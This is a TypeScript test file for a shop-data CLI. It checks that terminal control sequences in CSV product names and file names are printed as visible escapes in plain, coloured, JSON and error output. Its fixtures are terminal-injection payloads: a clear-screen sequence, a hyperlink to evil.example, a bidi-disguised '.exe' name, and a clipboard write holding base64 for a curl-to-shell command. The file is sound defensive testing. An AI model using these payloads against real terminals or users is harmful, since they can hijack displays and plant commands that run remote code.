/**
 * Nothing from data or file names reaches the terminal as a command: a hostile CSV (clear
 * screen, an OSC 8 hyperlink, an OSC 52 clipboard write, a bare CR, a bidi override, a C1 CSI)
 * and a hostile file name print as visible escapes, in the summary, in error messages and in --json.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli, type CliIo } from "../../src/local/cli/main";
import { terminalSafe } from "../../src/local/cli/terminal";

const dir = mkdtempSync(join(tmpdir(), "shop-doctor-term-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const CLEAR = "\x1b[2J\x1b[H";
const LINK = "\x1b]8;;https://evil.example/\x07";
const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
/** Anything a terminal acts on: C0 but tab/newline, DEL, C1, bidi controls, a CR not ending a line. */
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

async function cli(argv: string[], color = false): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = "";
  let stderr = "";
  const io: CliIo = {
    stdout: { write: (t: string) => (stdout += t) },
    stderr: { write: (t: string) => (stderr += t) },
    env: color ? { FORCE_COLOR: "1" } : { NO_COLOR: "1" },
  };
  const code = await runCli(argv, io);
  return { code, stdout, stderr };
}

/** A product table (生意参谋 商品_全部 columns) whose product names are attacks. */
function hostileCsv(): string {
  const rows = [
    "统计日期,商品ID,商品名称,商品访客数,商品浏览量,支付买家数,支付金额,商品支付转化率",
    `2026-11-01,1001,"${CLEAR}清屏外套",1200,3000,24,4800,2.00%`,
    `2026-11-01,1002,"${LINK}点我领券\x1b]8;;\x07",900,2100,9,1710,1.00%`,
    `2026-11-01,1003,"${CLIPBOARD}围巾\u202egnp.exe",800,1500,8,960,1.00%`,
    `2026-11-01,1004,"假名\r真名\u009b31m",700,1400,0,0,0.00%`,
  ];
  return rows.join("\n") + "\n";
}

describe("terminalSafe", () => {
  it("shows control characters as visible escapes and keeps text, tabs and newlines", () => {
    expect(terminalSafe(`${CLEAR}店铺`)).toBe("\\x1b[2J\\x1b[H店铺");
    expect(terminalSafe("a\x07b\x7fc\u009bd")).toBe("a\\x07b\\x7fc\\x9bd");
    expect(terminalSafe("overwrite\rme")).toBe("overwrite\\x0dme");
    expect(terminalSafe("line\r\nnext\tcell")).toBe("line\nnext\tcell");
    expect(terminalSafe("abc\u202edef\u2066x\u2069")).toBe("abc\\u202edef\\u2066x\\u2069");
    expect(terminalSafe("访客数 1,234 ✔")).toBe("访客数 1,234 ✔");
  });
});

describe("the CLI prints no escape sequence from data or file names", () => {
  const file = join(dir, "商品.csv");
  writeFileSync(file, hostileCsv());

  it("summary (plain and coloured): product names are shown escaped, our own colours stay", async () => {
    const plain = await cli(["diagnose", file]);
    expect(plain.code).toBe(0);
    expect(plain.stdout + plain.stderr).not.toMatch(UNSAFE);
    const coloured = await cli(["diagnose", file], true);
    expect(coloured.code).toBe(0);
    // Our colour codes are ESC [ n m; nothing else starts with ESC.
    const withoutColours = coloured.stdout.replace(/\x1b\[[0-9;]*m/g, "");
    expect(withoutColours).not.toMatch(UNSAFE);
    expect(coloured.stdout).toContain("\x1b[1m");
  });

  it("--json: C1, DEL and bidi controls are \\u escapes too (JSON.stringify leaves them raw)", async () => {
    const json = await cli(["diagnose", file, "--json"]);
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(UNSAFE);
    expect(json.stdout).toContain("\\u009b");
    expect(json.stdout).toContain("\\u202e");
    // Still the same report once parsed.
    const report = JSON.parse(json.stdout) as { tables: { sheet: string }[] };
    expect(report.tables[0].sheet).toBe("商品");
  });

  it("a file name holding escapes is escaped in the summary and in error messages", async () => {
    const sub = join(dir, "names");
    mkdirSync(sub, { recursive: true });
    const evil = join(sub, `店铺${CLEAR}\x1b]0;pwned\x07.csv`);
    writeFileSync(evil, hostileCsv());
    const ok = await cli(["diagnose", evil]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain("店铺\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07");
    expect(ok.stdout + ok.stderr).not.toMatch(UNSAFE);
    const missing = await cli(["diagnose", join(sub, `没有${LINK}.csv`)]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("no such file");
    expect(missing.stderr).not.toMatch(UNSAFE);
    const usage = await cli(["diagnose", `--${CLEAR}`]);
    expect(usage.code).toBe(2);
    expect(usage.stderr).not.toMatch(UNSAFE);
  });
});
